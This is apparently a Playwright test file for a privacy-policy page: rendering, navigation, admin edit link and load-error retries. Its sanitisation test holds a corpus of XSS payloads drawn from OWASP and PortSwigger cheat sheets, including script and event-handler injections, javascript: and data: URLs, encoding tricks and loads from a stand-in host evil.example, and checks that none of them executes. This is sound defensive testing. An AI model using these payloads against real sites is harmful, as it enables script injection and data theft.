import { expect, test } from '../support/quiet-console.ts';
import { openAs } from './visitor.ts';

/** Payloads of OWASP's and PortSwigger's XSS cheat sheets, embedded in markdown. */
const corpus = [
  '<script>window.owned = 1</script>',
  '<img src=x onerror="window.owned=1">',
  '<svg/onload=window.owned=1>',
  '<svg><animate onbegin=window.owned=1 attributeName=x dur=1s>',
  '<details open ontoggle=window.owned=1>',
  '<iframe srcdoc="<script>parent.owned=1</script>"></iframe>',
  '<iframe src="javascript:parent.owned=1"></iframe>',
  '<body onload=window.owned=1>',
  '<style>@import "https://evil.example/a.css";</style>',
  '<link rel=stylesheet href=https://evil.example/a.css>',
  '<base href="https://evil.example/">',
  '<meta http-equiv=refresh content="0;url=https://evil.example/">',
  '<object data="javascript:window.owned=1"></object>',
  '<form action="https://evil.example/"><input autofocus onfocus=window.owned=1></form>',
  '<math><mtext></form><form><mglyph><style></math><img src onerror=window.owned=1>',
  '[a](javascript:window.owned=1)',
  '[a](JaVaScRiPt:window.owned=1)',
  '[a](java&#x0A;script:window.owned=1)',
  '[a](&#106;avascript:window.owned=1)',
  '[a](javascript&colon;window.owned=1)',
  '[a](\u0001javascript:window.owned=1)',
  '[a]( javascript:window.owned=1)',
  '[a](data:text/html;base64,PHNjcmlwdD5wYXJlbnQub3duZWQ9MTwvc2NyaXB0Pg==)',
  '[a](vbscript:msgbox)',
  '[a](file:///etc/passwd)',
  '[a](blob:https://evil.example/1)',
  '[a]: javascript:window.owned=1\n\n[a]',
  '<javascript:window.owned=1>',
  '![a](https://evil.example/pixel.png)',
  '![a](javascript:window.owned=1)',
  '![a](x "onerror=window.owned=1")',
  '| a |\n|---|\n| <img src=x onerror=window.owned=1> |',
  '```html\n<script>window.owned=1</script>\n```',
];

test.describe('section 2, Privacy policy', () => {
  test('shows the latest policy with its date, links in a new tab, and no Edit', async ({
    page,
  }) => {
    await page.goto('/privacy-policy');
    await expect(page.getByRole('heading', { level: 1 })).toHaveCount(1);
    await expect(page.getByText('October 1, 2025').first()).toBeVisible();
    await expect(page.getByText('{{EFFECTIVE_DATE}}')).toHaveCount(0);
    for (const link of await page.getByRole('article').getByRole('link').all()) {
      await expect(link).toHaveAttribute('target', '_blank');
      await expect(link).toHaveAttribute('rel', /noopener/);
    }
    await expect(page.getByRole('link', { name: /^support@/ }).first()).toBeVisible();
    await expect(page.getByRole('link', { name: 'Edit' })).toHaveCount(0);
  });

  test('an admin has a link to the editor', async ({ page }) => {
    await openAs(page, 'admin@demo.example', '/privacy-policy');
    await page.getByRole('link', { name: 'Edit' }).click();
    await expect(page).toHaveURL('/privacy-policy/edit');
  });

  test('Back without a previous page leads to /', async ({ page }) => {
    await page.goto('/privacy-policy');
    await page.getByRole('button', { name: 'Back' }).click();
    await expect(page).toHaveURL('/');
  });

  test('Back returns to the previous page, also when its link was clicked before hydration', async ({
    page,
  }) => {
    await page.goto('/why-register');
    await page.getByRole('contentinfo').getByRole('link', { name: 'Privacy policy' }).click();
    await page.getByRole('button', { name: 'Back' }).click();
    await expect(page).toHaveURL('/why-register');
    // Navigates without a step within the application.
    await page.goto('/terms-and-conditions');
    await page.goto('/privacy-policy');
    await page.getByRole('button', { name: 'Back' }).click();
    await expect(page).toHaveURL('/terms-and-conditions');
  });

  test('hostile markdown runs no script and loads nothing from other origins', async ({
    page,
    baseURL,
  }) => {
    const elsewhere: string[] = [];
    page.on('request', (request) => {
      if (!request.url().startsWith(baseURL ?? '')) elsewhere.push(request.url());
    });
    page.on('dialog', (dialog) => dialog.dismiss());
    await page.goto('/accessibility');
    await page.route('**/rest/v1/privacy_policy*', (route) =>
      route.fulfill({
        json: [{ content: `${corpus.join('\n\n')}\n\nThe end.`, effective_date: '2025-10-01' }],
      }),
    );
    await page.goto('/privacy-policy');
    await expect(page.getByText('The end.')).toBeVisible();
    const article = page.getByRole('article');
    for (const link of await article.getByRole('link').all()) {
      expect(await link.getAttribute('href')).toMatch(/^(https?|ircs?|mailto|xmpp):|^[^:]*$/i);
    }
    for (const element of [
      'script',
      'img',
      'iframe',
      'svg:not(button svg)',
      'style',
      'form',
      'object',
      'base',
      'meta',
    ]) {
      await expect(article.locator(element)).toHaveCount(0);
    }
    expect(await page.evaluate(() => Reflect.get(window, 'owned'))).toBeUndefined();
    expect(elsewhere).toEqual([]);
  });
});

test.describe('section 8, Privacy policy', () => {
  test.use({ expectedNoise: [/Failed to load resource|could not be loaded/] });
  for (const [what, answer] of [
    ['a refusal', { status: 400, json: { message: 'no' } }],
    ['HTML', { status: 200, body: '<html>' }],
    ['no policy', { status: 200, json: [] }],
  ] as const) {
    test(`shows a load error (${what}), and retries`, async ({ page }) => {
      await page.route('**/rest/v1/privacy_policy*', (route) => route.fulfill(answer));
      await page.goto('/privacy-policy');
      await expect(page.getByText('Failed to load privacy policy').first()).toBeVisible();
      await page.unroute('**/rest/v1/privacy_policy*');
      await page.getByRole('button', { name: 'Try Again' }).click();
      await expect(page.getByText('October 1, 2025').first()).toBeVisible();
    });
  }
});
